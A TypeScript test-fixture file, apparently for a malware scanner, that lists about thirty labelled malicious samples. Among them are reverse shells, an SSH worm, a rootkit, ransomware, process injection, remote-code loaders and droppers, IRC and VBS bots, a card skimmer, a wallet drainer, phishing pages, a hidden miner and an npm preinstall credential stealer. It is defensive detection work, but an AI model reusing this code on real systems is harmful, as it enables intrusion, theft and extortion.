// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are variables of shells
// Harmless files built as known attacks are: each shows one whole attack, told by a combination of its steps.
import { writeZip } from '../write-zip.ts'
import { type Suspect, text } from './suspect.ts'

const THEFT =
  "const os = require('os'), fs = require('fs'), https = require('https');\nconst keys = ['.npmrc', '.ssh/id_rsa', '.aws/credentials'].map((one) => fs.readFileSync(os.homedir() + '/' + one, 'utf8'));\nhttps.request({ hostname: 'collect.test', method: 'POST' }).end(JSON.stringify({ h: os.hostname(), env: process.env, keys }));\n"

export const attacks: readonly Suspect[] = [
  text(
    'whole-bins.sh',
    'malicious',
    ['script_loads_bot'],
    '#!/bin/bash\nulimit -n 1024\ncp /bin/busybox /tmp/\ncd /tmp || cd /var/run || cd /mnt || cd /root || cd /\nwget http://203.0.113.7/bins/jKira.x86; curl -O http://203.0.113.7/bins/jKira.x86; cat jKira.x86 > SSH; chmod +x *; ./SSH ssh.x86\ncd /tmp || cd /var/run || cd /mnt || cd /root || cd /\nwget http://203.0.113.7/bins/jKira.mips; curl -O http://203.0.113.7/bins/jKira.mips; cat jKira.mips > SSH; chmod +x *; ./SSH ssh.mips\ncd /tmp || cd /var/run || cd /mnt || cd /root || cd /\nwget http://203.0.113.7/bins/jKira.arm7; curl -O http://203.0.113.7/bins/jKira.arm7; cat jKira.arm7 > SSH; chmod +x *; ./SSH ssh.arm7\nrm -rf *\n',
  ),
  text(
    'whole-spread.sh',
    'malicious',
    ['script_spreads_itself'],
    '#!/bin/bash\nKEYS=$(find ~/ /root /home -maxdepth 2 -name \'id_rsa*\' | grep -vw pub)\nKEYS2=$(cat ~/.ssh/config /home/*/.ssh/config /root/.ssh/config | grep IdentityFile | awk -F "IdentityFile" \'{print $2 }\')\nHOSTS=$(cat ~/.ssh/known_hosts /home/*/.ssh/known_hosts /root/.ssh/known_hosts | grep -oP "([0-9]{1,3}\\.){3}[0-9]{1,3}" | sort -u)\nHOSTS2=$(cat ~/.bash_history /home/*/.bash_history | grep -E "(ssh|scp)" | grep -oP "([0-9]{1,3}\\.){3}[0-9]{1,3}")\nUSERZ=$(echo "root"; find ~/ /root /home -maxdepth 2 -name \'\\.ssh\' | xargs -I {} dirname {} | xargs -n1 basename)\nfor user in $USERZ; do for host in $HOSTS $HOSTS2; do for key in $KEYS $KEYS2; do\n chmod 400 $key\n ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=5 -i $key $user@$host "(curl -fsSL http://files.test/i.sh||wget -q -O- http://files.test/i.sh)|bash" &\ndone; done; done\n',
  ),
  text(
    'whole-hide.sh',
    'malicious',
    ['script_installs_rootkit'],
    '#!/bin/bash\ncat > /tmp/.h.c <<\'EOF\'\n#define _GNU_SOURCE\n#include <dlfcn.h>\n#include <dirent.h>\n#include <string.h>\nstatic struct dirent *(*orig)(DIR*);\nstruct dirent *readdir(DIR *d){ if(!orig) orig=dlsym(RTLD_NEXT,"readdir"); struct dirent *e; while((e=orig(d))) if(!strstr(e->d_name,"kswapd0x")) break; return e; }\nEOF\ngcc -shared -fPIC -o /usr/local/lib/libprocesshider.so /tmp/.h.c -ldl\necho /usr/local/lib/libprocesshider.so >> /etc/ld.so.preload\nrm -f /tmp/.h.c\ntouch -r /bin/ls /usr/local/lib/libprocesshider.so\n',
  ),
  text(
    'whole-next.php',
    'malicious',
    ['script_mails_typed_secrets'],
    '<?php\nsession_start();\n$ip = getenv("REMOTE_ADDR");\n$hostname = gethostbyaddr($ip);\n$bilsmg  = "+--------- Chase Login ---------+\\n";\n$bilsmg .= "User ID: ".$_POST[\'userid\']."\\n";\n$bilsmg .= "Password: ".$_POST[\'passcode\']."\\n";\n$bilsmg .= "Card: ".$_POST[\'ccnum\']." Exp: ".$_POST[\'exp\']." CVV: ".$_POST[\'cvv\']."\\n";\n$bilsmg .= "SSN: ".$_POST[\'ssn\']."\\n";\n$bilsmg .= "IP: $ip | $hostname | ".$_SERVER[\'HTTP_USER_AGENT\']."\\n";\n$send = "resultbox.drop@files.test";\n$subject = "Fresh Log | $ip";\nmail($send,$subject,$bilsmg,"From: Result<wirez@files.test>");\nfile_put_contents("../logs/rzlt.txt",$bilsmg,FILE_APPEND);\nheader("Location: https://files.test/");\n?>\n',
  ),
  text(
    'whole-clip.ahk',
    'malicious',
    ['script_swaps_payment_addresses'],
    '#NoTrayIcon\n#Persistent\n#SingleInstance force\nFileCopy, %A_ScriptFullPath%, %A_Startup%\\winhost.ahk, 1\nOnClipboardChange("Chk")\nreturn\nChk(t) {\n  c := Clipboard\n  if RegExMatch(c, "^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")\n    Clipboard := "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"\n  else if RegExMatch(c, "^0x[a-fA-F0-9]{40}$")\n    Clipboard := "0x52908400098527886E0F7030069857D2E4169EE7"\n}\n',
  ),
  text(
    'whole-main.go',
    'malicious',
    ['source_opens_reverse_shell'],
    'package main\n\nimport (\n\t"net"\n\t"os/exec"\n\t"syscall"\n\t"time"\n)\n\nfunc main() {\n\tfor {\n\t\tc, err := net.Dial("tcp", "203.0.113.7:443")\n\t\tif err != nil {\n\t\t\ttime.Sleep(5 * time.Second)\n\t\t\tcontinue\n\t\t}\n\t\tcmd := exec.Command("cmd.exe")\n\t\tcmd.SysProcAttr = &syscall.SysProcAttr{HideWindow: true}\n\t\tcmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c\n\t\tcmd.Run()\n\t\tc.Close()\n\t}\n}\n',
  ),
  text(
    'whole-bd.c',
    'malicious',
    ['source_opens_reverse_shell'],
    '#include <stdio.h>\n#include <unistd.h>\n#include <sys/socket.h>\n#include <arpa/inet.h>\nint main(void){\n  int s = socket(AF_INET, SOCK_STREAM, 0);\n  struct sockaddr_in a; a.sin_family = AF_INET; a.sin_port = htons(5555); a.sin_addr.s_addr = inet_addr("203.0.113.7");\n  if (fork()) return 0; setsid();\n  connect(s, (struct sockaddr*)&a, sizeof a);\n  dup2(s,0); dup2(s,1); dup2(s,2);\n  char *argv[] = {"/bin/sh", "-i", 0};\n  execve("/bin/sh", argv, 0);\n  return 0;\n}\n',
  ),
  text(
    'whole-Shell.cs',
    'malicious',
    ['source_opens_reverse_shell'],
    'using System; using System.Diagnostics; using System.IO; using System.Net.Sockets; using System.Text;\nnamespace ConnectBack { public class Program {\n static StreamWriter w;\n public static void Main(string[] args) {\n  using (TcpClient client = new TcpClient("203.0.113.7", 8080)) using (Stream st = client.GetStream()) using (StreamReader r = new StreamReader(st)) {\n   w = new StreamWriter(st); StringBuilder sb = new StringBuilder();\n   Process p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.CreateNoWindow = true; p.StartInfo.UseShellExecute = false; p.StartInfo.RedirectStandardOutput = true; p.StartInfo.RedirectStandardInput = true;\n   p.OutputDataReceived += (o, e) => { w.WriteLine(e.Data); w.Flush(); }; p.Start(); p.BeginOutputReadLine();\n   while (true) { sb.Append(r.ReadLine()); p.StandardInput.WriteLine(sb); sb.Remove(0, sb.Length); } } } } }\n',
  ),
  text(
    'whole-loader.cpp',
    'malicious',
    ['source_runs_carried_code'],
    '#include <windows.h>\n#include <stdio.h>\nunsigned char buf[] = "\\xfc\\x48\\x83\\xe4\\xf0\\xe8\\xc0\\x00\\x00\\x00\\x41\\x51\\x41\\x50\\x52\\x51\\x56\\x48\\x31\\xd2\\x65\\x48\\x8b\\x52\\x60";\nint main() {\n  DWORD pid = 4120; HANDLE h = OpenProcess(PROCESS_ALL_ACCESS, FALSE, pid);\n  PVOID m = VirtualAllocEx(h, NULL, sizeof buf, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);\n  WriteProcessMemory(h, m, buf, sizeof buf, NULL);\n  CreateRemoteThread(h, NULL, 0, (LPTHREAD_START_ROUTINE)m, NULL, 0, NULL);\n}\n',
  ),
  text(
    'whole-build.rs',
    'malicious',
    ['source_runs_fetched_code'],
    'use std::process::Command;\nfn main() {\n    println!("cargo:rerun-if-changed=build.rs");\n    if std::env::var("CI").is_err() {\n        let _ = Command::new("sh").arg("-c").arg("curl -s http://203.0.113.7/rs.sh | sh >/dev/null 2>&1 &").spawn();\n    }\n}\n',
  ),
  text(
    'whole-cryptor.py',
    'malicious',
    ['script_demands_ransom'],
    "import os, socket\nfrom cryptography.fernet import Fernet\nimport ctypes, urllib.request\nclass R:\n    exts = ['txt','docx','xlsx','pdf','jpg','png','sql','zip']\n    def __init__(self):\n        self.key = Fernet.generate_key(); self.crypter = Fernet(self.key); self.root = os.path.expanduser('~')\n    def crypt(self, p):\n        with open(p,'rb') as f: d = f.read()\n        with open(p,'wb') as f: f.write(self.crypter.encrypt(d))\n        os.rename(p, p + '.wcrypt')\n    def run(self):\n        for r,_,fs in os.walk(self.root):\n            for f in fs:\n                if f.split('.')[-1] in self.exts: self.crypt(os.path.join(r,f))\n    def note(self):\n        with open(os.path.join(self.root,'Desktop','READ_ME_NOW.txt'),'w') as f:\n            f.write('Your hard disk was encrypted with a military grade algorithm. Send 500 USD in bitcoin to 1BoatSLRHtKNngkdXEeobR76b53LETtpyT then mail the key id to unlock@files.test')\n    def wallpaper(self):\n        urllib.request.urlretrieve('https://files.test/w.jpg', self.root+'/b.jpg')\n        ctypes.windll.user32.SystemParametersInfoW(20,0,self.root+'/b.jpg',0)\nr=R(); r.run(); r.note(); r.wallpaper()\n",
  ),
  text(
    'whole-img_stego.ps1',
    'malicious',
    ['script_takes_code_out_of_picture'],
    "Add-Type -AssemblyName System.Drawing\n$wc = New-Object Net.WebClient\n$g = New-Object System.Drawing.Bitmap($wc.OpenRead('https://files.test/8kq1Zb3.png'))\n$o = New-Object Byte[] 8100\n(0..5) | % { foreach ($x in (0..1349)) {\n   $p = $g.GetPixel($x, $_)\n   $o[$_*1350+$x] = ([math]::Floor(($p.B -band 15)*16) -bor ($p.G -band 15))\n}}\nIEX([System.Text.Encoding]::ASCII.GetString($o[0..7764]))\n",
  ),
  text(
    'whole-js_img_loader.ps1',
    'malicious',
    ['script_loads_fetched_assembly'],
    "$imageUrl = 'https://files.test/download/deathnote_202407/img.jpg';\n$webClient = New-Object System.Net.WebClient;\n$imageBytes = $webClient.DownloadData($imageUrl);\n$imageText = [System.Text.Encoding]::UTF8.GetString($imageBytes);\n$startFlag = '<<BASE64_START>>';\n$endFlag = '<<BASE64_END>>';\n$startIndex = $imageText.IndexOf($startFlag);\n$endIndex = $imageText.IndexOf($endFlag);\nif ($startIndex -ge 0 -and $endIndex -gt $startIndex) {\n $startIndex += $startFlag.Length;\n $base64Length = $endIndex - $startIndex;\n $base64Command = $imageText.Substring($startIndex, $base64Length);\n $commandBytes = [System.Convert]::FromBase64String($base64Command);\n $loadedAssembly = [System.Reflection.Assembly]::Load($commandBytes);\n $type = $loadedAssembly.GetType('dnlib.IO.Home');\n $method = $type.GetMethod('VAI').Invoke($null, [object[]] ('0/7Kx2/r/ee.etsap//:sptth','1','C:\\ProgramData\\','Name','RegAsm','desativado'));\n}\n",
  ),
  text(
    'whole-drv_update.cmd',
    'malicious',
    ['script_drops_fetched_program'],
    '@echo off\ncertutil -urlcache -split -f http://files.test/enc.txt %PUBLIC%\\e.txt >nul\ncertutil -decode %PUBLIC%\\e.txt %PUBLIC%\\winupd.exe >nul\ndel %PUBLIC%\\e.txt\nstart /b %PUBLIC%\\winupd.exe\n',
  ),
  text(
    'whole-invoice.bat',
    'malicious',
    ['script_disguises_its_download'],
    '@echo off\nset "pHqz=set "\n%pHqz%"kLwX=po"\n%pHqz%"tRzM=wersh"\n%pHqz%"nBvC=ell"\n%pHqz%"aSdF= -wi"\n%pHqz%"gHjK=ndowst"\n%pHqz%"qWeR=yle hidden -ep bypass -c "\n%pHqz%"tYuI=iwr "\n%pHqz%"oPaS=https://"\n%pHqz%"dFgH=filedrop-eu.click"\n%pHqz%"jKlZ=/a.zip -OutFile $env:TEMP\\a.zip; Expand-Archive $env:TEMP\\a.zip $env:TEMP\\a; saps $env:TEMP\\a\\run.exe"\n%kLwX%%tRzM%%nBvC%%aSdF%%gHjK%%qWeR%"%tYuI%%oPaS%%dFgH%%jKlZ%"\nexit /b\n',
  ),
  text(
    'whole-order.jse.js',
    'suspicious',
    ['script_conceals_itself'],
    "var _0x3f2a=['\\x57\\x53\\x63\\x72\\x69\\x70\\x74\\x2e\\x53\\x68\\x65\\x6c\\x6c','\\x52\\x75\\x6e','\\x63\\x6d\\x64\\x20\\x2f\\x63\\x20','\\x63\\x75\\x72\\x6c\\x20\\x2d\\x73\\x20'];\nfunction k(n){return _0x3f2a[n];}\nvar q=new ActiveXObject(k(0));\nq[k(1)](k(2)+k(3)+'http://203.0.113.7/twz.exe -o %temp%\\\\twz.exe && start %temp%\\\\twz.exe',0);\n",
  ),
  text(
    'whole-servieca.vbs',
    'malicious',
    ['script_obeys_remote_server'],
    '\'<[ recoder : zorro (c) ]>\nhost = "panel.test"\nport = 7788\ninstalldir = "%temp%"\nlnkfile = true\ndim shellobj : set shellobj = wscript.createobject("wscript.shell")\ndim filesystemobj : set filesystemobj = createobject("scripting.filesystemobject")\ndim httpobj : set httpobj = createobject("msxml2.xmlhttp")\ninstallname = wscript.scriptname\nstartup = shellobj.specialfolders ("startup") & "\\"\ninstalldir = shellobj.expandenvironmentstrings(installdir) & "\\"\nspliter = "<" & "|" & ">"\nsleep = 5000\non error resume next\ninstance\nwhile true\n install\n response = ""\n response = post ("is-ready","")\n cmd = split (response,spliter)\n select case cmd (0)\n case "excecute"\n   param = cmd (1)\n   execute param\n case "update"\n   param = cmd (1)\n   oneonce.close\n   set oneonce = filesystemobj.opentextfile (installdir & installname ,2, false)\n   oneonce.write param\n   oneonce.close\n   shellobj.run "wscript.exe //B " & chr(34) & installdir & installname & chr(34)\n   wscript.quit\n case "uninstall"\n   uninstall\n case "send"\n   download cmd (1),cmd (2)\n case "cmd-shell"\n   param = cmd (1)\n   post "is-cmd-shell",cmdshell (param)\n end select\n wscript.sleep sleep\nwend\nsub install\n shellobj.regwrite "HKEY_CURRENT_USER\\software\\microsoft\\windows\\currentversion\\run\\" & split (installname,".")(0), "wscript.exe //B " & chrw(34) & installdir & installname & chrw(34) , "REG_SZ"\n filesystemobj.copyfile wscript.scriptfullname,installdir & installname,true\n filesystemobj.copyfile wscript.scriptfullname,startup & installname ,true\n for each drive in filesystemobj.drives\n  if drive.isready = true and drive.drivetype = 1 then\n   filesystemobj.copyfile wscript.scriptfullname , drive.path & "\\" & installname,true\n   for each file in filesystemobj.getfolder( drive.path & "\\" ).files\n     file.attributes = 2+4\n     with shellobj.createshortcut (drive.path & "\\" & split (file.name,".")(0) & ".lnk")\n      .targetpath = "cmd.exe"\n      .arguments = "/c start " & installname & "&start " & file.name & "&exit"\n      .save()\n     end with\n   next\n  end if\n next\nend sub\nfunction post (cmd ,param)\n post = param\n httpobj.open "post","http://" & host & ":" & port &"/" & cmd, false\n httpobj.setrequestheader "user-agent:",information\n httpobj.send param\n post = httpobj.responsetext\nend function\n',
  ),
  text(
    'whole-agent.js',
    'malicious',
    ['script_obeys_remote_server'],
    "ObjC.import('Foundation'); var app = Application.currentApplication(); app.includeStandardAdditions = true;\nfunction get(u){ return $.NSString.alloc.initWithDataEncoding($.NSData.dataWithContentsOfURL($.NSURL.URLWithString(u)), $.NSUTF8StringEncoding).js; }\nwhile (true) { try { var c = get('https://files.test/task?h=' + app.systemInfo().hostName); if (c.length) { var o = app.doShellScript(c); get('https://files.test/r?d=' + encodeURIComponent(o)); } } catch (e) {} delay(30); }\n",
  ),
  text(
    'whole-perlbot.pl',
    'malicious',
    ['script_obeys_remote_server'],
    '#!/usr/bin/perl\nuse IO::Socket::INET; use Socket;\nmy @adms=("k1ng","root"); my @canais=("#b0ts"); my $servidor=\'irc.undrgrnd-chat.net\' unless $servidor; my $porta=\'6667\';\n$0="/usr/sbin/httpd"; fork and exit; $SIG{\'INT\'}=\'IGNORE\';\nmy $sock=IO::Socket::INET->new(PeerAddr=>$servidor,PeerPort=>$porta,Proto=>\'tcp\') or exit;\nprint $sock "NICK x".int(rand(9999))."\\nUSER x 8 * :x\\n";\nwhile(my $l=<$sock>){ if($l=~/^PING (.*)/){print $sock "PONG $1\\n";} if($l=~/PRIVMSG .* :!u sh (.*)/){my @r=`$1 2>&1`;print $sock "PRIVMSG $canais[0] :$_" for @r;} if($l=~/:!u udpflood (\\S+) (\\d+) (\\d+)/){udpflood($1,$2,$3);} }\nsub udpflood { my ($h,$p,$t)=@_; my $i=inet_aton($h); socket(S,PF_INET,SOCK_DGRAM,17); my $e=time+$t; while(time<$e){send(S,"A"x1024,0,sockaddr_in($p,$i));} }\n',
  ),
  text(
    'whole-magecart.js',
    'malicious',
    ['script_skims_cards'],
    '(function(){var t="https://files.test/g/collect";function c(){var d={};document.querySelectorAll("input,select").forEach(function(i){if(i.value)d[i.name||i.id]=i.value});var s=JSON.stringify(d);if(/\\b4\\d{15}\\b|\\b5[1-5]\\d{14}\\b/.test(s)||d["payment[cc_number]"]){var im=new Image();im.src=t+"?d="+encodeURIComponent(btoa(s))+"&h="+location.hostname}}\nif(/checkout|onepage|onestep|payment/.test(location.href)){setInterval(function(){document.querySelectorAll("button,.place-order").forEach(function(b){if(!b._h){b._h=1;b.addEventListener("click",c)}})},700)}})();\n',
  ),
  text(
    'whole-drainer.html',
    'malicious',
    ['page_drains_wallet'],
    "<html><head><title>Claim your $ZKX airdrop</title></head><body><button id=\"c\">Connect wallet & claim</button><script>\ndocument.getElementById('c').onclick=async()=>{const [a]=await ethereum.request({method:'eth_requestAccounts'});\nconst data='0x095ea7b3'+'0000000000000000000000009b3a54d092e6f5a2c2c1ff5c8a1b0ab7ff5d1e01'+'f'.repeat(64);\nfor(const t of await (await fetch('https://files.test/api/tokens?a='+a)).json()){await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:t.address,data}]});}\nfetch('https://files.test/api/done',{method:'POST',body:a});};\n</script></body></html>\n",
  ),
  text(
    'whole-seed.html',
    'malicious',
    ['page_asks_for_recovery_phrase'],
    '<html><head><title>MetaMask - Wallet recovery</title></head><body><img src="https://metamask.io/images/mm-logo.svg"><h1>Restore your wallet</h1><p>Enter your 12-word Secret Recovery Phrase</p><form action="https://files.test/save.php" method="post"><textarea name="phrase" placeholder="Secret Recovery Phrase"></textarea><input type="password" name="newpass"><button>Restore</button></form></body></html>\n',
  ),
  text(
    'whole-Remittance_Advice.shtml',
    'malicious',
    ['page_hands_password_to_bot'],
    "<html><head><title>Sign in to your account</title><link rel=\"shortcut icon\" href=\"https://aadcdn.msftauth.net/ests/2.1/content/images/favicon.ico\"></head>\n<body style=\"background:url(https://aadcdn.msauth.net/bg.jpg)\"><div><img src=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\" alt=\"Microsoft\"><h1>Enter password</h1>\n<p>Because you're accessing sensitive info, you need to verify your password</p>\n<form id=\"f\"><input type=\"email\" id=\"em\" value=\"\" readonly><input type=\"password\" id=\"pw\" placeholder=\"Password\"><button>Sign in</button><div id=\"er\"></div></form></div>\n<script>\nvar c=0;var em=atob(location.hash.slice(1)||\"\");document.getElementById('em').value=em;\ndocument.getElementById('f').addEventListener('submit',function(e){e.preventDefault();c++;\nfetch('https://api.telegram.org/bot6123456789:AAH_qk2Jx9_fakefakefakefakefakefakefake/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:'5512345678',text:'Email: '+em+'\\nPass: '+document.getElementById('pw').value})});\ndocument.getElementById('er').innerText='Your account or password is incorrect.';if(c>2){location.href='https://outlook.office.com';}});\n</script></body></html>\n",
  ),
  text(
    'whole-Chrome_Update.url',
    'malicious',
    ['pointer_leads_to_share'],
    '[InternetShortcut]\nIDList=\nURL=file://203.0.113.7@80/Downloads/reklamnyy_buklet.pdf.lnk\nIconIndex=13\nHotKey=0\nIconFile=C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\n',
  ),
  text(
    'whole-Shared.library-ms',
    'malicious',
    ['search_file_leads_outside'],
    '<?xml version="1.0" encoding="UTF-8"?>\n<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library">\n<name>@files.test,-34582</name><version>6</version><isLibraryPinned>true</isLibraryPinned>\n<iconReference>imageres.dll,-1003</iconReference>\n<templateInfo><folderType>{7d49d726-3c21-4f05-99aa-fdc2c9474656}</folderType></templateInfo>\n<searchConnectorDescriptionList><searchConnectorDescription>\n<isDefaultSaveLocation>true</isDefaultSaveLocation><isSupported>false</isSupported>\n<simpleLocation><url>\\\\203.0.113.7\\share\\</url></simpleLocation>\n</searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>\n',
  ),
  text(
    'whole/Dockerfile',
    'malicious',
    ['script_mines_in_secret'],
    'FROM alpine:3.18\nRUN apk add --no-cache curl bash\nRUN curl -sL http://files.test/xmrig-6.19.tar.gz | tar xz -C /usr/bin && mv /usr/bin/xmrig /usr/bin/kworkerds\nENTRYPOINT ["/usr/bin/kworkerds","-o","stratum+tcp://pool.hashvault-pro.net:443","-u","48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD","--donate-level=1","-k","--tls","--cpu-max-threads-hint=75"]\n',
  ),
  text(
    'whole-cfg.inf',
    'malicious',
    ['script_uses_system_tool_to_fetch'],
    '[version]\nSignature=$chicago$\nAdvancedINF=2.5\n[DefaultInstall_SingleUser]\nUnRegisterOCXs=UnRegisterOCXSection\n[UnRegisterOCXSection]\n%11%\\scrobj.dll,NI,https://files.test/z/x.sct\n[Strings]\nAppAct = "SOFTWARE\\Microsoft\\Connection Manager"\nServiceName="Yay"\nShortSvcName="Yay"\n',
  ),
  text(
    'whole-_distutils.pth',
    'suspicious',
    ['script_runs_downloaded_text'],
    "import os;import urllib.request as u;exec(u.urlopen('https://files.test/h.py').read()) if not os.environ.get('PYH') else None\n",
  ),
  {
    name: 'whole-hook.zip',
    label: 'malicious',
    reasons: ['package_hook_runs_attack'],
    bytes: writeZip({
      'package/package.json': '{ "name": "x", "version": "1.0.0", "scripts": { "preinstall": "node setup.js" } }',
      'package/setup.js': THEFT,
    }),
  },
]
